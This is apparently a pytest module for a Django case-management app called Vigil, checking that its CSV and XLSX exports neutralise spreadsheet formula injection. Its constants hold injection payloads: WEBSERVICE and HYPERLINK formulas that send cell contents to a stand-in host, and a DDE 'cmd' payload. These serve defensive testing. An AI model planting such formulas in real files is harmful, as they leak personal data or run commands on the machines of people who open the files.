"""Exports that attack their reader (CSV injection).

Someone who knows the desk exports its records can plant a formula: a report's
"where" of `=WEBSERVICE("http://attacker/?"&B3)` sends the neighbouring cell (a
name) to the attacker when an officer opens the export in Excel; a defender or a
company named `=HYPERLINK(...)` becomes a link that does the same. These tests plant
such values through intake and the desk, download every spreadsheet Vigil writes,
and read each cell back with openpyxl and csv. They also import an export again:
Vigil must read its own files back as they were.
"""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from vigil.cases.models import Defender, Incident
from vigil.cases.tests import factories as make
from vigil.communications.tests.helpers import sent
from vigil.intake.models import Submission

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
WHERE = '=WEBSERVICE("http://collector.example/?"&B3)'
NAME = '=HYPERLINK("http://collector.example/?"&A2,"Open")'
ALIAS = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTACT = "+57 300 000 0000"
COMPANY = '=HYPERLINK("http://collector.example/","Mining Co")'
QUOTED = "'=already quoted"


def formula_cells(workbook) -> int:
    return sum(
        1
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS))
    )


def dangerous_csv_cells(text: str) -> int:
    return sum(
        1 for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(TRIGGERS)
    )


@pytest.fixture
def planted(client, alice, carol):
    """Hostile values in every route they can take: intake, then the desk."""
    page = client.get(reverse("submission:submit")).content.decode()
    token = re.search(r'name="form_token" value="([^"]+)"', page).group(1)
    data = {"form_token": token, "what_happened": "-They came at night", "country": "COL"}
    client.post(reverse("submission:submit"), {**data, "where": WHERE})
    submission = Submission.objects.get()
    client.force_login(carol)
    response = client.post(
        reverse("intake:detail", args=[submission.pk]),
        {"action": "take_up", "take_up-title": "=1+1"},
    )
    assert response.status_code == 302
    incident = Incident.objects.get()
    assert incident.place == WHERE
    defender = make.defender(carol, name=NAME, aliases=ALIAS, contact=CONTACT)
    make.act(carol, incident=incident, victim=defender)
    defender2 = make.defender(carol, name=QUOTED)
    make.act(carol, incident=incident, victim=defender2)
    case = incident.cases.get()
    sent(
        alice,
        carol,
        case,
        timezone.localdate() - timedelta(days=3),
        addressees=[{"kind": "business", "name": COMPANY, "country": "COL"}],
    )
    return incident


def test_the_records_export_carries_no_formula_to_the_officer_who_opens_it(client, planted):
    csv_text = client.get(reverse("exchange:export", args=["csv"]) + "?identities=1")
    xlsx = client.get(reverse("exchange:export", args=["xlsx"]) + "?identities=1")
    assert csv_text.status_code == xlsx.status_code == 200
    text = csv_text.content.decode("utf-8-sig")
    assert "WEBSERVICE" in text and "HYPERLINK" in text  # the values are there, as text
    dangerous = dangerous_csv_cells(text)
    assert dangerous == 0, f"{dangerous} CSV cells would run as formulas"
    workbook = load_workbook(io.BytesIO(xlsx.content))
    formulas = formula_cells(workbook)
    assert formulas == 0, f"{formulas} XLSX cells are or would be formulas"


def test_statistics_tables_carry_no_formula_either(client, planted):
    for fmt in ("csv", "xlsx"):
        url = reverse("stats:export", args=["replies_companies", fmt])
        response = client.get(url)
        assert response.status_code == 200
        if fmt == "csv":
            text = response.content.decode("utf-8-sig")
            assert "Mining Co" in text
            dangerous = dangerous_csv_cells(text)
        else:
            workbook = load_workbook(io.BytesIO(response.content))
            assert "Mining Co" in str([c.value for r in workbook.active.iter_rows() for c in r])
            dangerous = formula_cells(workbook)
        assert dangerous == 0, f"{dangerous} {fmt} cells would run as formulas"


def test_the_rejected_rows_file_carries_no_formula(carol, tmp_path):
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["record", "external_id", "kind", "name", "aliases", "country"])
        writer.writerow(["defender", "d-1", "person", "Marta", "", "COL"])
        writer.writerow(["defender", "=d-2", "martian", NAME, ALIAS, "COL"])
    call_command(
        "import_records", str(path), "--as", "carol", "--skip-invalid",
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip
    rejected = (tmp_path / "hostile.csv.rejected.csv").read_text("utf-8-sig")
    assert "HYPERLINK" in rejected
    dangerous = dangerous_csv_cells(rejected)
    assert dangerous == 0, f"{dangerous} cells of the rejected rows would run as formulas"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.slow  # about 1 s
def test_an_export_imports_back_as_it_was(client, planted, carol, tmp_path, fmt):
    response = client.get(reverse("exchange:export", args=[fmt]) + "?identities=1")
    path = tmp_path / f"records.{fmt}"
    path.write_bytes(response.content)
    out = io.StringIO()
    call_command("import_records", str(path), "--as", "carol", stdout=out, stderr=io.StringIO())
    # Nothing changed: a quote left on any value would have been an update.
    summary = out.getvalue().strip()
    assert summary.startswith("0 created, 0 updated,") and summary.endswith(" 0 rejected")
    people = {(d.name, d.aliases, d.contact) for d in Defender.objects.all()}
    assert people == {(NAME, ALIAS, CONTACT), (QUOTED, "", "")}
    assert Incident.objects.get().place == WHERE
